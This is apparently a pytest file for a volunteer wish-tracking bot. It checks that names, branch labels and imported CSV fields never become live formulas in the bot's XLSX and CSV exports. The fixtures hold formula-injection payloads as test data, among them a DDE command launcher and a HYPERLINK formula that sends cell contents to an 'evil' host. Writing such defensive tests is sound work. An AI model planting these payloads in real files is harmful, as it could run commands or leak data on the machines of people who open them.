"""Text people typed never becomes a live formula in a sheet the bot hands out.

A community where the volunteer, the coordinator, a branch, the beneficiaries, the wishes and
the import notes all carry text that a spreadsheet program would run, built through the real
services (the wishes arrive in an imported CSV, as a hostile file would bring them). Every
sheet is then taken the way people take it and read back cell by cell.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.clock import FakeClock
from bot.people.organisation import SYSTEM
from bot.records import record_sheets, sheets
from bot.records.sheet_cells import FORMULA_STARTS, append_row, csv_row, neutralise
from bot.services import Services
from tests.conftest import Bot
from tests.factories import COORDINATOR, coordinator, member

VOLUNTEER = 301
VOLUNTEER_NAME = '=HYPERLINK("http://x","y")'
BOSS_NAME = "-李主任"
BRANCH = "@第二支部"
GROUP = -100300
# (beneficiary name, wish, notes) per imported row
WISHES = [
    ("=1+2", "+1+1", "=cmd|' /C calc'!A0"),
    ("+王秀英", "-2", '=HYPERLINK("http://evil?"&F2&G2,"点此")'),
    ("@赵小宝", "@SUM(A1)", "-下午在家"),
]
ORDINARY = ("孙大爷", "血压计", "上午在家")
HOSTILE = {VOLUNTEER_NAME, BOSS_NAME, BRANCH, *(text for row in WISHES for text in row)}
H2 = (date(2026, 7, 1), date(2027, 1, 1))


@pytest.fixture
async def hostile(services: Services, clock: FakeClock) -> None:
    boss = await coordinator(services)
    await services.org.register(COORDINATOR, BOSS_NAME, "zh")
    branch = await services.org.add_branch(SYSTEM, 1, BRANCH)
    volunteer = await member(services, VOLUNTEER, VOLUNTEER_NAME, branch_id=branch.id)
    await services.org.bind_group(boss, GROUP, "第二支部群", "zh", branch.id, group_admin=True)
    rows = [["姓名", "联系电话", "住址", "类别", "心愿内容", "价值（元）", "截止日期", "备注"]]
    for n, (name, wish, notes) in enumerate([*WISHES, ORDINARY], start=1):
        rows.append(
            [name, f"139000000{n:02d}", f"和平街 {n} 号", "独居老人", wish, "100", "2026-12-31", notes]
        )
    content = io.StringIO()
    csv.writer(content).writerows(rows)
    outcome = await services.records.import_file(boss, 1, "心愿.csv", content.getvalue().encode("utf-8"))
    assert outcome.imported, outcome.checked.errors
    for wish_id in range(1, len(rows)):
        await services.wishes.verify(boss, wish_id)
        await services.wishes.post(boss, wish_id, chat_ids=[GROUP])
        await services.wishes.claim(volunteer, wish_id)
        if wish_id <= 2:  # a member holds two wishes at most
            await services.wishes.deliver(volunteer, wish_id)
            await services.wishes.confirm(boss, wish_id)
    async with services.db.transaction() as conn:  # the messages are not what this is about
        await conn.execute("UPDATE outbox SET status = 'sent' WHERE status = 'pending'")


def _cells(content: bytes) -> Iterator[Any]:
    book = load_workbook(io.BytesIO(content))  # not read_only: data_type is what is checked
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def assert_text_stays_text(content: bytes, expected: set[str]) -> None:
    """No formula anywhere, and each hostile text is a string cell holding exactly that text."""
    cells = list(_cells(content))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    found = {c.value: c.data_type for c in cells if c.value in HOSTILE}
    assert found == dict.fromkeys(expected, "s")


def _document(bot: Bot, user: Any) -> bytes:
    message = next(m for m in reversed(bot.driver.private(user)) if m.document is not None)
    assert message.document is not None
    return bot.api.file_content(message.document.file_id)


# --- .xlsx written with openpyxl ----------------------------------------------------------------


async def test_myrecord_xlsx_keeps_names_and_wishes_as_text(hostile: None, bot: Bot) -> None:
    volunteer = bot.api.user(VOLUNTEER, "V")
    await bot.driver.send(volunteer, "/myrecord xlsx")
    content = _document(bot, volunteer)
    # The beneficiaries appear masked (=**, +**, @**): those must not become formulas either.
    assert_text_stays_text(content, {VOLUNTEER_NAME, "+1+1", "-2", "@SUM(A1)"})
    values = [c.value for c in _cells(content)]
    assert f"{VOLUNTEER_NAME} 微心愿服务记录" in values
    assert {"=**", "+**", "@**"} <= set(values)


async def test_branchreport_xlsx_keeps_names_and_wishes_as_text(hostile: None, bot: Bot) -> None:
    boss = bot.api.user(COORDINATOR, "Li")
    await bot.driver.send(boss, "/branchreport")
    await bot.driver.tap(boss, bot.driver.last_private(boss), BRANCH)
    content = _document(bot, boss)
    assert_text_stays_text(content, {VOLUNTEER_NAME, "+1+1", "-2", "@SUM(A1)"})
    assert any(BRANCH in str(c.value) for c in _cells(content))  # the report of that branch


async def test_record_xlsx_straight_from_the_service(hostile: None, services: Services) -> None:
    record = await services.records.member_record(1, VOLUNTEER, H2)
    assert_text_stays_text(record_sheets.record_xlsx(record, "en"), {VOLUNTEER_NAME, "+1+1", "-2", "@SUM(A1)"})
    report = await services.records.branch_report(await coordinator(services), 2, H2)
    assert_text_stays_text(record_sheets.branch_xlsx(report, "en"), {VOLUNTEER_NAME, "+1+1", "-2", "@SUM(A1)"})


def test_append_row_stores_text_as_a_string_and_leaves_other_values_alone() -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, ["=1+1", -3, 2.5, None, date(2026, 1, 2), "plain"])
    append_row(sheet, [])
    append_row(sheet, ["=A1"])
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    assert [(c.value, c.data_type) for c in read[1]][:3] == [("=1+1", "s"), (-3, "n"), (2.5, "n")]
    assert read["E1"].is_date and read["F1"].value == "plain"
    assert read["A2"].value is None and (read["A3"].value, read["A3"].data_type) == ("=A1", "s")


# --- the claim sheet (XlsxWriter) and the import template ---------------------------------------


async def test_claim_sheet_xlsx_keeps_every_hostile_text_as_text(hostile: None, bot: Bot) -> None:
    boss = bot.api.user(COORDINATOR, "Li")
    await bot.driver.send(boss, "/export")
    content = _document(bot, boss)
    assert_text_stays_text(content, HOSTILE)  # the summary sheet holds the branch name


async def test_claim_sheet_xlsx_written_by_the_cli_writer(hostile: None, services: Services) -> None:
    records = services.records
    community = await records.community(1)
    period = records.period(community, (date(2026, 1, 1), date(2027, 1, 1)))
    buffer = io.BytesIO()
    count = await sheets.write_claim_sheet(
        buffer,
        records.sheet_rows(community, period),
        await records.export_summary(community, period),
        period=period,
        lang="en",
        public=False,
        today=records.today(community),
    )
    assert count == 4
    assert_text_stays_text(buffer.getvalue(), HOSTILE)


def test_import_template_has_no_formula_cells() -> None:
    for lang in ("zh", "en"):
        assert [c.coordinate for c in _cells(sheets.template_xlsx(lang)) if c.data_type != "s"] == []


# --- the claim sheet as CSV ---------------------------------------------------------------------


async def _claim_csv(services: Services, public: bool) -> list[dict[str, str]]:
    records = services.records
    community = await records.community(1)
    period = records.period(community, (date(2026, 1, 1), date(2027, 1, 1)))
    target = io.StringIO(newline="")
    count = await sheets.write_claim_csv(
        target,
        records.sheet_rows(community, period),
        period=period,
        lang="en",
        public=public,
        today=records.today(community),
    )
    assert count == 4
    return list(csv.DictReader(io.StringIO(target.getvalue(), newline="")))


async def test_claim_csv_neutralises_hostile_text(hostile: None, services: Services) -> None:
    table = await _claim_csv(services, public=False)
    assert len(table) == 4
    for row, (name, wish, notes) in zip(table, WISHES, strict=False):
        assert (row["Beneficiary"], row["Wish"], row["Notes"]) == (f"'{name}", f"'{wish}", f"'{notes}")
        assert row["Claimed by"] == f"'{VOLUNTEER_NAME}"
        assert row["Collected by"] == row["Verified by"] == f"'{BOSS_NAME}"
        assert row["Branch"] == f"'{BRANCH}"
    ordinary = table[3]
    assert (ordinary["Beneficiary"], ordinary["Wish"], ordinary["Notes"]) == ORDINARY
    assert ordinary["Phone"] == "13900000004" and ordinary["Value (yuan)"] == "100"
    assert ordinary["Due date"] == "2026-12-31" and ordinary["Days late"] == "0"
    for row in table:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell


async def test_public_claim_csv_neutralises_what_it_still_shows(hostile: None, services: Services) -> None:
    table = await _claim_csv(services, public=True)
    assert "Beneficiary" not in table[0]
    assert [row["Wish"] for row in table] == [f"'{wish}" for _, wish, _ in WISHES] + [ORDINARY[1]]


def test_csv_row_keeps_the_programs_numbers_and_dates() -> None:
    assert csv_row([None, -5, 2.5, date(2026, 1, 2), "-5", "王"]) == ["", -5, 2.5, "2026-01-02", "'-5", "王"]


# --- the neutralising function --------------------------------------------------------------------

dangerous = st.sampled_from(FORMULA_STARTS)


@given(st.text())
def test_neutralise_never_leaves_a_formula_start(text: str) -> None:
    out = neutralise(text)
    if text.startswith(FORMULA_STARTS):
        assert out == "'" + text
    else:
        assert out == text
    assert not out.startswith(FORMULA_STARTS)


@given(dangerous, st.text())
def test_neutralise_prefixes_every_dangerous_start(first: str, rest: str) -> None:
    assert neutralise(first + rest) == "'" + first + rest


@given(st.text())
def test_neutralise_is_stable_once_applied(text: str) -> None:
    assert neutralise(neutralise(text)) == neutralise(text)
